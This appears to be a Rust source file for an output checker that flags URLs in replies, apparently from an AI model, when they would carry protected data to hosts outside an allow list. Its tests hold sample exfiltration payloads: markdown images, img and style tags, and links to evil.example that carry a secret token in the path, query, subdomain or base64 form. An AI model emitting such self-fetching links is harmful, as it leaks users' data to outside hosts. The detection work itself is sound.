//! `no-exfiltration`: addresses that would carry data away. Kept out: how addresses are found (`urls`).

use serde_json::Value;

use super::needles::{Needles, Reach, decoded_url};
use super::options::Options;
use super::urls::{self, Address, Fetch};
use super::{Built, each_reply, problem};

/// The longest query, and the longest part of a path, that a plain link has.
const LONGEST: usize = 100;

/// No address to a foreign host carries data. `value`: `{allow: [hosts], data: [texts], longest, images}`.
pub(super) fn build(value: Option<&Value>) -> Built {
    let kind = "no-exfiltration";
    let options = Options::new(kind, value, &["allow", "data", "longest", "images"])?;
    let data = options.texts("data")?;
    let rules = Rules {
        allow: options.texts("allow")?.iter().map(|host| host.to_lowercase()).collect(),
        data: if data.is_empty() { None } else { Some(Needles::new(kind, &data, Reach::Forms)?) },
        longest: options.whole("longest", LONGEST, 0..=100_000)?,
        images: options.flag("images", true)?,
    };
    if let Some(host) = rules.allow.iter().find(|host| host.contains(['/', ':', '@'])) {
        return Err(problem(
            "value",
            format!("`allow` of `{kind}` lists hosts, such as `docs.example.com`: not `{host}`"),
        ));
    }
    each_reply(move |_, reply| rules.find(reply))
}

struct Rules {
    allow: Vec<String>,
    data: Option<Needles>,
    longest: usize,
    images: bool,
}

impl Rules {
    fn find(&self, text: &str) -> Option<String> {
        urls::addresses(text).iter().find_map(|address| self.judge(address))
    }

    fn judge(&self, address: &Address) -> Option<String> {
        let host = urls::host(&address.text).filter(|host| !self.allows(host))?;
        let what = match address.fetch {
            Fetch::Automatic => "an address that is fetched by itself",
            Fetch::Click => "a link",
        };
        // The labels before the last two may hold what was to be protected.
        let labels: Vec<&str> = host.rsplit('.').take(2).collect();
        let place: String = labels.into_iter().rev().collect::<Vec<_>>().join(".").chars().take(60).collect();
        let place = format!("to {place}");
        if let Some((form, _)) = self.data.as_ref().and_then(|data| data.find(&address.text)) {
            // Its host may be where that text stands.
            return Some(format!("{what} carries a protected text {}", form.words()));
        }
        if address.fetch == Fetch::Automatic && self.images {
            return Some(format!("{what} {place}, which is not an allowed host"));
        }
        let carried = self.carried(&address.text);
        (carried > self.longest).then(|| format!("{what} {place} carries {carried} characters of data"))
    }

    /// `a.example` is that host alone; `*.a.example` is every host below it.
    fn allows(&self, host: &str) -> bool {
        self.allow.iter().any(|allowed| match allowed.strip_prefix("*.") {
            Some(parent) => host.strip_suffix(parent).is_some_and(|head| head.ends_with('.')),
            None => host == allowed,
        })
    }

    /// The longest stretch that could hold data: query and fragment, a part of the path, a label of the host.
    fn carried(&self, address: &str) -> usize {
        let address = decoded_url(address);
        let (path, query) = address.split_at(address.find(['?', '#']).unwrap_or(address.len()));
        let parts = path.split(['/', '\\', '.']).map(|part| part.chars().count()).max().unwrap_or(0);
        parts.max(query.chars().count().saturating_sub(1))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ::base64::Engine as _;

    fn rules() -> Rules {
        Rules {
            allow: vec!["docs.example.com".to_owned(), "*.cdn.example".to_owned()],
            data: Some(Needles::new("x", &["heron-Q7r4-lake".to_owned()], Reach::Forms).unwrap()),
            longest: LONGEST,
            images: true,
        }
    }

    #[test]
    fn what_carries_data_away_is_found() {
        let long = "x".repeat(101);
        let encoded = ::base64::engine::general_purpose::STANDARD.encode("the word is heron-Q7r4-lake");
        let texts = [
            "![ ](https://evil.example/p.png)".to_owned(),
            "![ ](//evil.example/p.png?q=1)".to_owned(),
            "![a][b]\n\n[b]: https://evil.example/".to_owned(),
            "<img onerror=1 src=https://evil.example/>".to_owned(),
            "<style>p{background:url(https://evil.example/)}</style>".to_owned(),
            format!("[more](https://evil.example/?q={long})"),
            format!("https://evil.example/{long}"),
            "[more](https://evil.example/?w=heron-q7r4-lake)".to_owned(),
            "https://heron-q7r4-lake.evil.example/".to_owned(),
            "https://evil.example/ekal-4r7Q-noreh".to_owned(),
            format!("[more](https://evil.example/{encoded})"),
            "[x]: https://evil.example/heron%2DQ7r4%2Dlake".to_owned(),
            "https://docs.example.com@evil.example/heron-Q7r4-lake".to_owned(),
            "![x](https://docs.example.com.evil.example/a.png)".to_owned(),
            "![x](https://cdn.example/a.png)".to_owned(),
        ];
        for text in texts {
            let why = rules().find(&text).unwrap_or_else(|| panic!("{text}"));
            assert!(!why.to_lowercase().contains("q7r4"), "{why}");
        }
    }

    #[test]
    fn a_plain_link_is_clean() {
        let texts = [
            "See https://en.wikipedia.org/wiki/Heron for more.",
            "[guide](https://other.example/guide/part-1?lang=en#top)",
            "![logo](https://docs.example.com/logo.png?v=heron-Q7r4-lake)",
            "![logo](https://img.cdn.example/logo.png)",
            "![logo](logo.png) and ![dot](data:image/png;base64,iVBORw0KGgo=)",
            "array[i](x) and f(y)[0](z), or `a ? b : c`",
            "The heron-Q7r4-lake is no address.",
            "<a href=\"#top\">top</a> <img src=\"/logo.png\">",
            "mailto:ada@example.com",
        ];
        for text in texts {
            assert_eq!(rules().find(text), None, "{text}");
        }
    }
}
